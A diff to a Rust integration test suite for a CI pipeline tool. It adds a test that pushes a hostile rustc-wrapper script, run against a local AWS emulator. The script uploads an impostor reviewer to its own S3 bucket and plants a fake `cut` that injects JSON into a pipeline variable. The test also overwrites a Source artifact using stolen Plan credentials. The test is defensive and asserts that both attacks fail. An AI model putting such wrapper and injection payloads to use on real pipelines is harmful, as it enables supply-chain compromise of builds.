@@ -14,6 +14,8 @@
 
 #[path = "support/elf.rs"]
 mod elf;
+#[path = "support/person.rs"]
+mod person;
 #[path = "support/scratch.rs"]
 mod scratch;
 
@@ -49,6 +51,14 @@ fn write_executable(path: &Path, text: &str) {
     use std::os::unix::fs::PermissionsExt as _;
     std::fs::write(path, text).unwrap();
     std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+/// Takes out of the repository the rustc wrapper a hostile push put in.
+fn remove_wrapper(repo: &Path) {
+    let config = std::fs::read_to_string(repo.join(".cargo/config.toml")).unwrap();
+    let honest = config.replace("[build]\nrustc-wrapper = \"wrapper.sh\"\n", "");
+    std::fs::write(repo.join(".cargo/config.toml"), honest).unwrap();
+    std::fs::remove_file(repo.join("wrapper.sh")).unwrap();
 }
 
 fn git(dir: &Path, args: &[&str]) {
@@ -242,20 +252,13 @@ exec {xtask} "$@"
     /// xtask as a person runs it from the repository, with the emulator's credentials.
     fn person(&self, args: &[&str]) -> Output {
         let endpoint = self.moto.endpoint();
-        Command::new(env!("CARGO_BIN_EXE_xtask"))
+        let mut command = Command::new(env!("CARGO_BIN_EXE_xtask"));
+        command
             .current_dir(&self.repo)
             .args(["--config", "stages.toml"])
             .args(args)
-            .args(["--endpoint-url", &endpoint])
-            .env("AWS_ACCESS_KEY_ID", "test")
-            .env("AWS_SECRET_ACCESS_KEY", "test")
-            .env("AWS_CONFIG_FILE", self.dir.join("no-aws-config"))
-            .env("AWS_SHARED_CREDENTIALS_FILE", self.dir.join("no-aws-credentials"))
-            .env_remove("AWS_PROFILE")
-            .env_remove("AWS_REGION")
-            .env_remove("AWS_ENDPOINT_URL")
-            .output()
-            .unwrap()
+            .args(["--endpoint-url", &endpoint]);
+        person::as_person(&mut command, &self.dir).output().unwrap()
     }
 
     /// A new execution of the pipeline on the repository's HEAD.
@@ -452,13 +455,7 @@ exec "$@"
 
     // The next push is honest; Plan restores its poisoned cache. Review and Apply restore none.
     f.push("honest again", |repo| {
-        let config = std::fs::read_to_string(repo.join(".cargo/config.toml")).unwrap();
-        std::fs::write(
-            repo.join(".cargo/config.toml"),
-            config.replace("[build]\nrustc-wrapper = \"wrapper.sh\"\n", ""),
-        )
-        .unwrap();
-        std::fs::remove_file(repo.join("wrapper.sh")).unwrap();
+        remove_wrapper(repo);
         let path = repo.join("stages.toml");
         std::fs::write(&path, std::fs::read_to_string(&path).unwrap().replace("memory_mb = 256", "memory_mb = 384"))
             .unwrap();
@@ -631,4 +628,83 @@ fn a_risky_plan_runs_only_with_this_executions_approval_and_no_role_escapes_the_
         assert!(lines[2].starts_with("wildcard: itest-dev-api: role/itest-dev-backdoor  *  *"), "{message}");
         assert!(!message.contains("harmless first"), "the plan's own rows are never read: {message}");
     });
+}
+
+#[test]
+fn what_plan_exports_cannot_rewrite_reviews_settings_and_a_redirected_source_is_refused() {
+    let f = Fixture::new("pipeline-injection");
+    let markers = f.markers.display().to_string();
+    // The pushed commit's wrapper uploads a reviewer of its own to a bucket of its own, and puts a `cut`
+    // first on Plan's PATH that makes PLAN_DIGEST a value closing the JSON of Review's configuration, as
+    // CodePipeline would paste it, with settings that point Review at that reviewer.
+    let wrapper = format!(
+        r#"#!/bin/sh
+[ -x "$HOME/.cargo/bin/cut" ] && exec "$@"
+printf '#!/bin/sh\necho "${{CODEBUILD_BUILD_ID%%%%:*}}" >> {markers}/impostor-ran\nexit 1\n' > "$TMPDIR/xtask"
+sha=$(sha256sum "$TMPDIR/xtask" | awk '{{print $1}}')
+aws s3 mb s3://impostor-artifacts > /dev/null
+aws s3 cp --quiet "$TMPDIR/xtask" "s3://impostor-artifacts/reviewer/$sha/xtask"
+mkdir -p "$HOME/.cargo/bin"
+cat > "$HOME/.cargo/bin/cut" <<EOF2
+#!/bin/sh
+printf '%s' '0","type":"PLAINTEXT"}},{{"name":"ARTIFACT_BUCKET","value":"impostor-artifacts","type":"PLAINTEXT"}},{{"name":"REVIEWER_SHA256","value":"'$sha
+EOF2
+chmod +x "$HOME/.cargo/bin/cut"
+exec "$@"
+"#
+    );
+    f.push("a rustc wrapper", |repo| {
+        let config = std::fs::read_to_string(repo.join(".cargo/config.toml")).unwrap();
+        std::fs::write(repo.join(".cargo/config.toml"), format!("{config}\n[build]\nrustc-wrapper = \"wrapper.sh\"\n"))
+            .unwrap();
+        write_executable(&repo.join("wrapper.sh"), &wrapper);
+    });
+    let review = xtask::aws::runtime().unwrap().block_on(async {
+        let mut run = f.run().await;
+        for stage in ["Source", "Plan"] {
+            assert_eq!(run.stage(stage, Approval::Refuse).await.unwrap(), StageResult::Succeeded, "{stage}");
+        }
+        assert!(run.variable("Plan", "PLAN_DIGEST").is_some_and(|d| d.contains("impostor-artifacts")), "mounted");
+        run.stage("Review", Approval::Refuse).await.unwrap()
+    });
+    assert!(matches!(review, StageResult::Failed(_)), "{review:?}");
+    assert!(f.who_wrote("impostor-ran").is_empty(), "an impostor reviewer ran: {:?}", f.who_wrote("impostor-ran"));
+
+    // Copied-out Plan credentials point an honest run's Source at another commit of the repository
+    // before its Plan: Plan builds that one, and the review refuses what it planned.
+    f.push("honest again", |repo| {
+        remove_wrapper(repo);
+    });
+    git(&f.repo, &["checkout", "--quiet", "-b", "elsewhere"]);
+    f.push("another commit", |repo| {
+        let path = repo.join("stages.toml");
+        std::fs::write(&path, std::fs::read_to_string(&path).unwrap().replace("memory_mb = 256", "memory_mb = 512"))
+            .unwrap();
+    });
+    let elsewhere = String::from_utf8(
+        Command::new("git").arg("-C").arg(&f.repo).args(["rev-parse", "HEAD"]).output().unwrap().stdout,
+    )
+    .unwrap();
+    git(&f.repo, &["checkout", "--quiet", "dev"]);
+    let review = xtask::aws::runtime().unwrap().block_on(async {
+        let mut run = f.run().await;
+        run.stage("Source", Approval::Refuse).await.unwrap();
+        let Some(Artifact::Stored { bucket, key }) = run.artifact("Source").cloned() else {
+            panic!("no Source artifact")
+        };
+        let stolen = f.s3_as("itest-dev-ci-plan").await;
+        let reference =
+            serde_json::json!({"cloneRef": {"repository": f.repo.to_string_lossy(), "commit": elsewhere.trim()}});
+        stolen
+            .put_object()
+            .bucket(&bucket)
+            .key(&key)
+            .body(reference.to_string().into_bytes().into())
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(run.stage("Plan", Approval::Refuse).await.unwrap(), StageResult::Succeeded);
+        run.stage("Review", Approval::Refuse).await.unwrap()
+    });
+    assert!(matches!(review, StageResult::Failed(_)), "{review:?}");
 }
